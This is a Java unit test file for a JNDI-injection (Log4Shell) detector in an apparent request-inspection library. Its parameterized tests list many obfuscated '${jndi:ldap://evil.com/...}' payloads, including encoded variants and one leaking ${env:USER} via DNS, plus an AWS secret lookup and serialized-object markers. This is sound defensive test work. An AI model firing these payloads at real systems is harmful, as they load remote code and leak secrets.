package io.bulwark.inspect;

import static io.bulwark.inspect.Values.header;
import static io.bulwark.inspect.Values.query;
import static io.bulwark.inspect.Values.run;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JndiDetectorTest {
    private final JndiDetector detector = new JndiDetector();

    private int level(String v) {
        return Values.level(detector, header("User-Agent", v));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${jndi:ldap://evil.com/a}",
                "${jndi:ldaps://evil.com/a}",
                "${jndi:rmi://evil.com:1099/a}",
                "${jndi:dns://evil.com/a}",
                "${jndi:iiop://evil.com/a}",
                "${jndi:corba://evil.com/a}",
                "${jndi:nds://evil.com/a}",
                "${jndi:http://evil.com/a}",
                "Mozilla/5.0 ${JNDI:LDAP://evil.com/a}",
                "${${lower:j}ndi:ldap://evil.com/a}",
                "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://evil.com/a}",
                "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.com/a}",
                "${${env:FOO:-j}ndi:ldap://evil.com/a}",
                "${${env:BARFOO:-j}${sys:x:-n}${lower:D}i:rmi://evil.com/a}",
                "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.com/a}",
                "${j${::-n}di:ldap://evil.com/a}",
                "${${lower:${upper:j}}ndi:ldap://evil.com/a}",
                "$${env:something:-${env:something:-$}{jndi:ldap://evil.com/webshell}}}",
                "$%7Bjndi:ldap://evil.com/a%7D",
                "%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D",
                "$\\u007Bjndi:ldap://evil.com/a}",
                "$&lbrace;jndi:ldap://evil.com/a}",
                "&#36;{jndi:ldap://evil.com/a}",
                "%24&lcub;\\u006A&#110;di:ldap://evil.com/webshell}",
                "${jndi:ldap://${env:USER}.evil.com/a}",
                "&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.com/w}"
            })
    void flags_jndi_lookups_at_level_1(String v) {
        List<Finding> findings = run(detector, header("User-Agent", v));
        assertThat(findings).singleElement().satisfies(f -> {
            assertThat(f.paranoia()).isEqualTo(1);
            assertThat(f.confidence()).isGreaterThanOrEqualTo(0.9);
            assertThat(f.location().toString()).isEqualTo("header.User-Agent");
        });
    }

    @Test
    void gives_plain_lookups_the_highest_confidence() {
        assertThat(run(detector, query("${jndi:ldap://x/a}")).get(0).confidence())
                .isEqualTo(0.99);
        assertThat(run(detector, query("${${::-j}ndi:ldap://x/a}")).get(0).confidence())
                .isEqualTo(0.97);
        assertThat(run(detector, query("${jndi:foo}")).get(0).confidence()).isEqualTo(0.9);
    }

    @Test
    void flags_lookup_obfuscation_without_jndi_at_higher_levels() {
        assertThat(level("${${::-x}${::-y}}")).isEqualTo(2);
        assertThat(level("${env:AWS_SECRET_ACCESS_KEY}")).isEqualTo(3);
        assertThat(level("jndi:ldap://evil.com/a")).isEqualTo(2);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "aced00057372", "xKztAAU", "Cs7QAF", "ACED0005"})
    void flags_serialized_java_objects_at_level_2(String v) {
        assertThat(level(v)).isEqualTo(2);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Mozilla/5.0 (X11; Linux x86_64)",
                "${name}",
                "Hello ${user}!",
                "price is $5 {discount}",
                "{\"a\": {\"b\": 1}}",
                "The JNDI tutorial",
                "${}",
                "$$",
                "}}}}{{{{",
                "rO0 AB",
                "jndi is an API",
                "text/html;charset=utf-8"
            })
    void ignores_normal_values(String v) {
        assertThat(run(detector, query(v))).isEmpty();
    }

    @Test
    void evaluates_nested_defaults() {
        assertThat(JndiDetector.evaluate("${${::-a}${lower:B}c}x").resolved).isEqualTo("${abc}x");
        assertThat(JndiDetector.evaluate("a${::-b}c").resolved).isEqualTo("abc");
        assertThat(JndiDetector.evaluate("${unclosed").resolved).isEqualTo("${unclosed");
        assertThat(JndiDetector.evaluate("${${::-$}{::-x}}").resolved).isEqualTo("x}");
        assertThat(JndiDetector.evaluate("${${::-j}}").resolved).isEqualTo("${j}");
    }

    @Test
    void stays_bounded_on_a_megabyte_of_lookups() {
        long start = System.nanoTime();
        assertThat(run(detector, query("${".repeat(1 << 19)))).isEmpty();
        assertThat(Values.level(detector, query("${".repeat(100_000) + "}".repeat(100_000))))
                .isNotEqualTo(1);
        String nested = "${${${".repeat(100_000);
        assertThat(run(detector, query(nested))).isEmpty();
        assertThat(run(detector, query("${::-".repeat(100_000) + "}".repeat(100_000))))
                .isNotEmpty();
        assertThat(run(detector, query("${${::-j}ndi:".repeat(50_000)))).isNotNull();
        assertThat(run(detector, query("%25".repeat(300_000)))).isEmpty();
        assertThat(System.nanoTime() - start).isLessThan(5_000_000_000L);
    }

    @Test
    void finds_jndi_hidden_behind_many_nested_lookups() {
        String deep = "${::-".repeat(10) + "j" + "}".repeat(10);
        assertThat(level("${" + deep + "ndi:ldap://evil.com/a}")).isEqualTo(1);
    }
}
